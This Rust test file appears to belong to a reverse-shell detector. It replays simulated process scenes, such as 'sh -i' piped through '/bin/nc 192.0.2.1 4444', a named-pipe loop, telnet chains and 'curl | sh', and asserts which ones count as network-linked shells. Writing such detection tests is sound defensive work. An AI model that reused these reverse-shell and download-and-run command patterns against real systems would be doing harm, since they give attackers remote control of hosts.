//! Shells that are wired to the network, and those that are not.

use Step::{Connect, Exit, Run, RunAgain, Wait};

use super::*;

/// What happens in a scene.
enum Step<'a> {
    /// Parent, pid, command line and standard descriptors of a new process.
    Run(u32, u32, &'a str, [Stdio; 3]),
    /// A process replaces its program.
    RunAgain(u32, &'a str, [Stdio; 3]),
    /// A process connects to 192.0.2.1:4444.
    Connect(u32),
    /// Seconds go by.
    Wait(u64),
    /// A process ends.
    Exit(u32),
}

fn tty() -> [Stdio; 3] {
    [(); 3].map(|()| Stdio::Terminal { device: 0x8801 })
}

fn null() -> Stdio {
    Stdio::Device { device: 0x103 }
}

fn pipe(inode: u64) -> Stdio {
    Stdio::Pipe {
        inode,
        named: false,
    }
}

fn fifo(inode: u64) -> Stdio {
    Stdio::Pipe { inode, named: true }
}

fn unix(inode: u64) -> Stdio {
    Stdio::Unix { inode }
}

fn socket(inode: u64, connected: bool) -> Stdio {
    let end = |last, port| (IpAddr::from([192, 0, 2, last]), port);
    Stdio::Inet {
        inode,
        socket_type: 1,
        protocol: 6,
        local: end(9, 40_000),
        peer: connected.then(|| end(1, 4444)),
    }
}

fn describe(link: &ShellLink) -> String {
    let remote = link
        .remote
        .map_or_else(String::new, |(address, port)| format!(" {address}:{port}"));
    let (via, shell, relay) = (link.via.name(), link.shell.pid, link.relay.pid);
    format!("{via} {shell} {relay}{remote}")
}

/// Plays a scene below `python3` as process 2, and looks at the last link that was seen in it:
/// what carries it, the pids of shell and relay, the remote end.
#[track_caller]
fn check(scene: &str, steps: Vec<Step<'_>>, expected: &str) {
    let mut node = Node::new();
    node.run(1, 2, "/usr/bin/python3 /srv/app.py");
    let mut last = String::new();
    for step in steps {
        let seen = match step {
            Run(parent, pid, line, stdio) => {
                node.fork(parent, pid);
                let parent = key(parent);
                let exec = command(line);
                Some(node.exec(
                    pid,
                    Exec {
                        parent,
                        stdio,
                        ..exec
                    },
                ))
            }
            RunAgain(pid, line, stdio) => {
                let parent = key(2);
                let exec = command(line);
                Some(node.exec(
                    pid,
                    Exec {
                        parent,
                        stdio,
                        ..exec
                    },
                ))
            }
            Connect(pid) => Some(node.connect(pid)),
            Wait(seconds) => {
                node.wait(seconds * SECOND);
                None
            }
            Exit(pid) => {
                node.exit(pid);
                None
            }
        };
        if let Some(link) = seen.and_then(|seen| seen.link) {
            last = describe(&link);
        }
    }
    assert_eq!(last, expected, "{scene}");
}

#[test]
fn sockets_of_the_shell_itself() {
    let shell = |scene, stdio, expected| {
        check(scene, vec![Run(2, 20, "/bin/bash -i", stdio)], expected);
    };
    let linked = "socket 20 20 192.0.2.1:4444";
    let on = || socket(1, true);
    shell("all three", [on(), on(), on()], linked);
    shell("input alone", [on(), null(), null()], linked);
    shell("both outputs", [null(), on(), on()], linked);
    shell("one output", [null(), on(), null()], "");
    shell("two sockets", [null(), on(), socket(2, true)], "");
    let off = || socket(1, false);
    shell("no peer", [off(), off(), off()], "");
    let other = vec![Run(2, 20, "/bin/cat", [on(), on(), on()])];
    check("no shell", other, "");
}

#[test]
fn a_loop_of_two_pipes() {
    let shell = || Run(2, 20, "/bin/sh -i", [pipe(1), pipe(2), pipe(2)]);
    let relay = || Run(2, 21, "/bin/nc 192.0.2.1 4444", [pipe(2), pipe(1), null()]);
    check("shell first", vec![shell(), relay()], "pipe 20 21");
    check("relay first", vec![relay(), shell()], "pipe 20 21");
    let linked = "pipe 20 21 192.0.2.1:4444";
    check("connects last", vec![shell(), relay(), Connect(21)], linked);
    check(
        "connects first",
        vec![relay(), Connect(21), shell()],
        linked,
    );
    let late = vec![relay(), Connect(21), Exit(21), Wait(5), shell()];
    check("relay just ended", late, linked);
    let gone = vec![relay(), Connect(21), Exit(21), Wait(15), shell()];
    check("relay long gone", gone, "");
}

#[test]
fn a_loop_through_a_named_pipe() {
    let steps = || {
        vec![
            Run(10, 20, "/bin/sh -i", [fifo(9), pipe(1), pipe(1)]),
            Run(10, 21, "/usr/bin/tool", [pipe(1), fifo(9), null()]),
        ]
    };
    check("sh -i < fifo | tool > fifo", steps(), "pipe 20 21");
    let mut backwards = steps();
    backwards.reverse();
    check("the other order", backwards, "pipe 20 21");
    let mut connected = steps();
    connected.push(Connect(21));
    check("it connects", connected, "pipe 20 21 192.0.2.1:4444");
    let by_cat = vec![
        Run(10, 19, "/bin/cat /tmp/f", [null(), pipe(1), null()]),
        Run(10, 20, "/bin/sh -i", [pipe(1), pipe(2), pipe(2)]),
        Run(10, 21, "/bin/nc 192.0.2.1 4444", [pipe(2), fifo(9), null()]),
        Connect(21),
    ];
    check(
        "cat fifo | sh | nc > fifo",
        by_cat,
        "pipe 20 21 192.0.2.1:4444",
    );
}

#[test]
fn between_two_connections() {
    let steps = |order: [u32; 2]| {
        let mut steps = vec![
            Run(
                10,
                19,
                "/usr/bin/telnet 192.0.2.1 4444",
                [null(), pipe(1), null()],
            ),
            Run(10, 20, "/bin/sh", [pipe(1), pipe(2), null()]),
            Run(
                10,
                21,
                "/usr/bin/telnet 192.0.2.1 4445",
                [pipe(2), null(), null()],
            ),
        ];
        steps.extend(order.map(Connect));
        steps
    };
    let linked = "pipe 20 21 192.0.2.1:4444";
    check("telnet | sh | telnet", steps([19, 21]), linked);
    check("the second connects first", steps([21, 19]), linked);
}

#[test]
fn one_way_pipelines_are_no_links() {
    let curl = || {
        Run(
            10,
            19,
            "/usr/bin/curl -s https://192.0.2.1/x",
            [null(), pipe(1), null()],
        )
    };
    let plain = vec![
        curl(),
        Run(10, 20, "/bin/sh", [pipe(1), null(), null()]),
        Connect(19),
    ];
    check("curl | sh", plain, "");
    let logged = vec![
        curl(),
        Run(10, 20, "/bin/sh", [pipe(1), pipe(2), null()]),
        Run(10, 21, "/usr/bin/tee log", [pipe(2), null(), null()]),
        Connect(19),
    ];
    check("curl | sh | tee", logged, "");
    let sent = vec![
        Run(10, 20, "/bin/sh backup.sh", [null(), pipe(2), null()]),
        Run(10, 21, "/bin/nc 192.0.2.1 4444", [pipe(2), null(), null()]),
        Connect(21),
    ];
    check("sh | nc", sent, "");
    let inside = vec![
        curl(),
        Connect(19),
        Run(10, 20, "/bin/sh", [pipe(1), pipe(7), pipe(7)]),
    ];
    check("curl | sh, its output to a collector", inside, "");
}

#[test]
fn a_socket_pair_to_a_parent() {
    let shell = || Run(2, 20, "/bin/bash -i", [unix(5), unix(5), unix(5)]);
    let linked = "socketpair 20 2 192.0.2.1:4444";
    check("socat", vec![Connect(2), Wait(60), shell()], linked);
    check("a daemon that was connected to", vec![shell()], "");
    let three = [unix(5), unix(6), unix(7)];
    let node = vec![Connect(2), Run(2, 20, "/bin/sh -i", three)];
    check("one socket each way", node, "");
}

#[test]
fn a_parent_that_just_connected() {
    let pipes = || [pipe(1), pipe(2), pipe(2)];
    let shell = |stdio| Run(2, 20, "/bin/sh -i", stdio);
    let linked = "pipe 20 2 192.0.2.1:4444";
    check("pipes", vec![Connect(2), shell(pipes())], linked);
    let linked = "terminal 20 2 192.0.2.1:4444";
    check("a terminal", vec![Connect(2), shell(tty())], linked);
    let late = vec![Connect(2), Wait(10), shell(pipes())];
    check("connected long ago", late, "");
    check("connected after", vec![shell(tty()), Connect(2)], "");
    let task = Run(2, 20, "/bin/sh -c id", pipes());
    check("a shell with a task", vec![Connect(2), task], "");
    let script = Run(2, 20, "/bin/sh run.sh", pipes());
    check("a shell with a script", vec![Connect(2), script], "");
    let by_shell = vec![
        Run(2, 10, "/bin/bash", tty()),
        Connect(10),
        Run(10, 20, "/bin/bash", tty()),
    ];
    check("a shell in a shell", by_shell, "");
}

#[test]
fn connections_of_the_program_before_do_not_count() {
    let steps = |connect_again| {
        let mut steps = vec![
            Connect(2),
            RunAgain(2, "/usr/bin/tmux", tty()),
            Run(2, 20, "/bin/bash", tty()),
        ];
        if connect_again {
            steps.insert(2, Connect(2));
        }
        steps
    };
    check("connected, then another program", steps(false), "");
    check(
        "which connects",
        steps(true),
        "terminal 20 2 192.0.2.1:4444",
    );
    let inherited = vec![
        Connect(2),
        Run(2, 10, "/usr/bin/tmux", tty()),
        Run(10, 20, "/bin/bash", tty()),
    ];
    check("a parent connected, its child runs another", inherited, "");
}

#[test]
fn pipes_are_bounded() {
    let mut node = Node::new();
    for inode in 1..20_000 {
        let stdio = [pipe(inode), null(), null()];
        node.exec(
            5,
            Exec {
                stdio,
                ..command("/bin/cat")
            },
        );
    }
    assert_eq!(node.enricher.sizes().pipes, 16_384);
    for pid in 10..100 {
        let stdio = [pipe(1), null(), null()];
        node.exec(
            pid,
            Exec {
                stdio,
                ..command("/bin/cat")
            },
        );
    }
    assert_eq!(node.enricher.sizes().pipes, 16_384);
}
